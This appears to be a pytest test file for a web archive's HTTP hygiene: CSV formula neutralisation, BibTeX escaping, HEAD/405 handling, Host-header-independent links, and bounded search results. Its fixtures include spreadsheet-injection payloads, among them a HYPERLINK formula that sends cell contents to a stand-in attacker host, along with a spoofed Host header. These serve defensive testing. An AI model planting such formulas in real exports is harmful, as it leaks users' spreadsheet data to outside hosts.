"""HTTP hygiene a user or an attacker would notice: exports that are safe to open, citations that
parse, HEAD and 405 as HTTP says, no link or redirect built from the Host header, and search
answers of bounded size whatever a sentence holds.
"""

from __future__ import annotations

import csv
import html
import io
import re
import xml.etree.ElementTree as ET

import bibtexparser
import pytest
from fastapi.testclient import TestClient

from app.config import Settings
from app.search.snippets import TEXT_CHARS, clip, make_snippet
from app.search.types import Result
from app.web import serialize
from app.web.app import DEFAULT_BASE_URL, create_app
from tests.helpers import COMMENTARY, OFFICIAL
from tests.web.test_security import build_url, discover_routes, samples  # noqa: F401 - `samples` is a fixture

# These run a second time on PostgreSQL (scripts/test.sh selects -m pg).
pytestmark = pytest.mark.pg

EVIL = "evil.example"
# The formula payloads of the review, each opening a sentence (and the title and publisher).
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Open the report")', "+SUM(1,2) is what the table adds up",
            "-2+3 is the sum the ministry reports", "@SUM(A1:A9) appears in the annex"]
# Characters that end a BibTeX value or start a LaTeX command, in sentences and the title.
BIBTEX_HOSTILE = ["The ministry } closes a brace it never opened.", "A stray { opens one that never closes.",
                  "Half of it, 50% of providers, comment out the rest.", "A path C:\\models\\new is quoted.",
                  "Item #4 of @misc{x, title={y}} is listed.", "Braces }{ in the wrong order }}} end here."]


def _write(folder, name: str, front: str, paragraphs: list[str]) -> None:
    folder.mkdir(exist_ok=True)
    (folder / name).write_text(f"---\n{front}---\n" + "\n\n".join(paragraphs) + "\n", encoding="utf-8")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """An archive whose text and metadata hold spreadsheet formulas and BibTeX syntax."""
    from app.ingest.pipeline import run
    from tests.helpers import fresh_database_url

    src = tmp_path_factory.mktemp("hostile-src")
    _write(src, "formulas.md", "title: '=HYPERLINK(\"http://evil.example\",\"t\")'\nkind: official\n"
           "slug: formulas\ndate: 2025-02-03\npublisher: '@SUM(1+1)'\n", FORMULAS)
    _write(src, "braces.md", "title: 'Rules } on {AI} & 100% #1 \\\\ {'\nkind: official\nslug: braces\n"
           "date: 2025-02-04\npublisher: 'Office of {Tests'\nsource_url: https://example.org/a_b?x=1&y=%7D\n",
           BIBTEX_HOSTILE)
    settings = Settings(data_dir=tmp_path_factory.mktemp("hostile-data"), database_url=fresh_database_url())
    run(settings, [src])
    with TestClient(create_app(settings), follow_redirects=False) as c:
        yield c


# --- CSV export -------------------------------------------------------------------------------------

def test_csv_export_never_starts_a_cell_with_a_formula(hostile):
    rows = list(csv.DictReader(io.StringIO(hostile.get("/export/sentences.csv").content.decode("utf-8-sig"))))
    texts = {r["text"] for r in rows if r["document"] == "formulas"}
    assert texts == {"'" + f for f in FORMULAS}, texts  # neutralised, otherwise unchanged
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    titles = {r["title"] for r in rows if r["document"] == "formulas"}
    assert titles == {"'=HYPERLINK(\"http://evil.example\",\"t\")"} and {r["publisher"] for r in rows} >= {"'@SUM(1+1)"}


def test_json_export_keeps_the_text_as_written(hostile):
    texts = {r["text"] for r in hostile.get("/export/sentences.json").json() if r["document"] == "formulas"}
    assert texts == set(FORMULAS)


@pytest.mark.parametrize("value", ["\tSUM(1)", "\rSUM(1)", "=1", "+1", "-1", "@x", ["=a", "b"]])
def test_csv_cells_starting_with_tab_or_carriage_return_are_neutralised_too(value):
    from app.web.formats import cell

    out = cell(value)
    assert out.startswith("'") and out[1:] == (value if isinstance(value, str) else "|".join(value))


# --- BibTeX -------------------------------------------------------------------------------------------

BIBTEX_RE = re.compile(r'<pre id="cite-bibtex"[^>]*>(.*?)</pre>', re.S)


def _bibtex_of(client, passage_id: str) -> str:
    page = client.get(f"/s/{passage_id}")
    assert page.status_code == 200, passage_id
    return html.unescape(BIBTEX_RE.search(page.text).group(1))


LATEX = {r"\textbraceleft{}": "{", r"\textbraceright{}": "}", r"\textbackslash{}": "\\", r"\%": "%", r"\#": "#",
         r"\&": "&", r"\_": "_", r"\$": "$"}


def _braces_balance(value: str) -> bool:
    """BibTeX's own rule: every brace counts, a backslash before it or not."""
    depth = 0
    for ch in value:
        depth += {"{": 1, "}": -1}.get(ch, 0)
        if depth < 0:
            return False
    return depth == 0


def _assert_parses(entry: str, expect_note: str | None = None) -> None:
    library = bibtexparser.parse_string(entry)
    assert not library.failed_blocks and len(library.entries) == 1, entry
    fields = library.entries[0].fields_dict
    assert {"author", "title", "url", "note"} <= set(fields), entry
    for name, f in fields.items():
        assert _braces_balance(str(f.value)), (name, f.value)
    # Nothing after the entry: the parser did not stop early at a brace in the text.
    assert entry.rstrip().endswith("}") and not library.comments and not library.strings, entry
    if expect_note is not None:  # the whole sentence is in the note, once LaTeX is read back
        note = str(fields["note"].value)
        for latex, char in LATEX.items():
            note = note.replace(latex, char)
        assert expect_note in note, (expect_note, fields["note"].value)


def test_every_bibtex_entry_parses_whatever_the_sentence_holds(hostile):
    doc = hostile.get("/api/documents/braces").json()
    joined = " ".join(p["text"] for p in doc["passages"])  # the segmenter may split at a brace
    assert all(sentence in joined for sentence in BIBTEX_HOSTILE), joined
    for p in doc["passages"]:
        _assert_parses(_bibtex_of(hostile, p["id"]), p["text"])


def test_every_bibtex_entry_of_the_seed_parses(client, official, commentary):
    for doc in (official, commentary):
        for p in doc["passages"]:
            _assert_parses(_bibtex_of(client, p["id"]))


# --- HEAD and 405 ------------------------------------------------------------------------------------

REQUIRED_QUERY = {"/api/crossrefs": {"doc": COMMENTARY}, **{p: {"q": "artificial intelligence"} for p in ("/api/phrases", "/phrases.svg", "/phrases.csv")}}


def test_head_is_answered_wherever_get_is(client, samples):  # noqa: F811 - the imported fixture
    routes = [r for r in discover_routes(client.app) if "GET" in r.methods]
    assert len(routes) > 15
    for route in routes:
        url = build_url(route, samples, query=REQUIRED_QUERY.get(route.path))
        get, head = client.get(url), client.head(url)
        assert head.status_code == get.status_code and get.status_code < 400, (url, head.status_code, get.status_code)
        assert head.content == b"", url
        for name in ("content-type", "content-length", "content-security-policy", "x-frame-options", "location"):
            assert head.headers.get(name) == get.headers.get(name), (url, name)


@pytest.mark.parametrize("method", ["DELETE", "PUT", "PATCH", "TRACE"])
def test_405_says_which_methods_the_address_takes(client, method):
    for url, allowed in (("/api/documents", "GET, HEAD"), (f"/documents/{OFFICIAL}", "GET, HEAD"),
                         ("/verify", "GET, HEAD, POST"), ("/api/verify", "POST"), ("/static/style.css", "GET, HEAD")):
        r = client.request(method, url)
        assert r.status_code == 405 and r.headers["allow"] == allowed, (method, url, r.headers.get("allow"))
    r = client.get("/api/verify")
    assert r.status_code == 405 and r.headers["allow"] == "POST"


# --- the Host header is never trusted ----------------------------------------------------------------------

@pytest.mark.parametrize("url", ["/themes/", "/api/themes/", "/directives/", "/api/documents/"])
def test_redirects_never_name_the_requests_host(client, url):
    r = client.get(url, headers={"host": EVIL})
    assert r.status_code in (301, 307, 308), (url, r.status_code)
    assert r.headers["location"] == url.rstrip("/") and EVIL not in r.text


def test_redirects_are_never_protocol_relative():
    from app.web.hygiene import relative

    for location, expected in (("http://evil.example//x/", "/x/"), ("//evil.example/x", "/x"),
                               ("/\\evil.example", "/evil.example"), ("https://h/a?b=1#c", "/a?b=1#c")):
        assert relative(location) == expected


def test_links_name_the_configured_address_never_the_host_header(seed_settings, official):
    base = "https://archive.example.org/pa"
    p = official["passages"][0]["id"]
    for settings, expected in ((seed_settings.model_copy(update={"base_url": base}), base),
                               (seed_settings, DEFAULT_BASE_URL)):
        with TestClient(create_app(settings), follow_redirects=False) as c:
            page = c.get(f"/s/{p}", headers={"host": EVIL}).text
            assert f'<link rel="canonical" href="{expected}/s/{p}">' in page
            assert f'<meta property="og:url" content="{expected}/s/{p}">' in page
            assert f"{expected}/s/{p}" in html.unescape(BIBTEX_RE.search(page).group(1))
            reader = c.get(f"/documents/{OFFICIAL}", headers={"host": EVIL}).text
            assert f'<link rel="canonical" href="{expected}/documents/{OFFICIAL}">' in reader
            for feed in ("/feeds/documents.atom", f"/feeds/themes/{c.get('/api/themes').json()['themes'][0]['slug']}.atom"):
                xml = c.get(feed, headers={"host": EVIL}).text
                links = [e.get("href") for e in ET.fromstring(xml).iter("{http://www.w3.org/2005/Atom}link")]
                ids = [e.text for e in ET.fromstring(xml).iter("{http://www.w3.org/2005/Atom}id")]
                assert links and all(u.startswith(expected + "/") for u in links + ids), (feed, links, ids)
                assert EVIL not in xml


# --- bounded search answers ------------------------------------------------------------------------------

HUGE = "The needle sentence starts here " + "policy governance talent model safety " * 140_000 + "ends."


def _hit(text: str) -> Result:
    return Result(id="x1", document="d", title="t", kind="official", unit="sentence", text=text,
                  snippet=make_snippet(text, [(4, 10), (len(text) - 4, len(text))]), match="related", score=0.5,
                  bm25=1.0, date=None, publisher=None, position=0, themes=[])


def test_a_five_megabyte_sentence_gives_a_small_hit():
    assert len(HUGE) > 5_000_000
    hit = serialize.hit_json(_hit(HUGE))
    assert hit["truncated"] is True and hit["permalink"] == "/s/x1"
    assert len(hit["text"]) <= TEXT_CHARS and hit["text"].endswith("…") and HUGE.startswith(hit["text"][:-1])
    assert len(hit["snippet"]) < 1000 and "<mark>needle</mark>" in hit["snippet"] and hit["snippet"].endswith("…")
    short = serialize.hit_json(_hit("A short sentence."))
    assert short["truncated"] is False and short["text"] == "A short sentence."


def test_clip_cuts_at_a_space_and_only_when_needed():
    assert clip("word " * 10, 100) == ("word " * 10, False)
    text, cut = clip("alpha beta gamma delta", 12)
    assert cut and text == "alpha beta…"
    text, cut = clip("x" * 50, 10)  # no space to cut at
    assert cut and text == "x" * 9 + "…"


def test_search_hits_carry_the_truncation_flag(client):
    body = client.get("/api/search", params={"q": "Global South"}).json()
    assert body["results"] and all(h["truncated"] is False for h in body["results"])
    schema = client.get("/api/openapi.json").json()["components"]["schemas"]["SearchHit"]
    assert "truncated" in schema["required"]


def test_openapi_declares_the_real_content_types(client):
    paths = client.get("/api/openapi.json").json()["paths"]
    assert set(paths["/export/sentences.csv"]["get"]["responses"]["200"]["content"]) == {"text/csv"}
    assert set(paths["/feeds/documents.atom"]["get"]["responses"]["200"]["content"]) == {"application/atom+xml"}
    assert set(paths["/feeds/themes/{slug}.atom"]["get"]["responses"]["404"]["content"]) == {"text/html"}
    for path, operations in paths.items():
        for method, op in operations.items():
            assert "application/json" in op["responses"]["400"]["content"], (method, path)  # the NUL 400
    r = client.get("/api/directives", params={"publisher": "a\x00b"})
    assert r.status_code == 400 and r.headers["content-type"] == "application/json"
    assert client.get("/export/sentences.csv").headers["content-type"] == "text/csv; charset=utf-8"


def test_answers_that_hit_a_huge_sentence_stay_small(ingest, make_settings, tmp_path):
    """Sentences longer than max_sentence_chars are split at ingest; one let through (the limit
    raised) still gives small search and quote-check answers."""
    words = "policy governance talent model safety compute data export control review".split()
    huge = "The needle sentence starts here " + " ".join(words[i % 7] for i in range(40_000)) + " ends."
    _write(tmp_path / "src", "huge.md", "title: Huge\nkind: official\nslug: huge\n", [huge])
    settings = ingest(tmp_path / "src", settings=make_settings(max_sentence_chars=len(huge) + 1))
    with TestClient(create_app(settings)) as c:
        assert len(c.get("/api/documents/huge").json()["passages"]) == 1
        for r in (c.get("/api/search", params={"q": "needle sentence starts"}),
                  c.get("/api/search", params={"q": "governance talent"}),
                  c.get("/search", params={"q": "needle sentence"}),
                  c.post("/api/verify", json={"text": "The needle sentence starts here."}),
                  c.get("/verify", params={"text": "The needle sentence starts here."})):
            assert r.status_code == 200 and len(r.content) < 30_000 and "needle" in r.text, (r.url, len(r.content))
        hit = c.get("/api/search", params={"q": "needle sentence starts"}).json()["results"][0]
        assert hit["truncated"] and len(hit["text"]) <= TEXT_CHARS and hit["permalink"].startswith("/s/")
        assert c.get(hit["permalink"]).status_code == 200
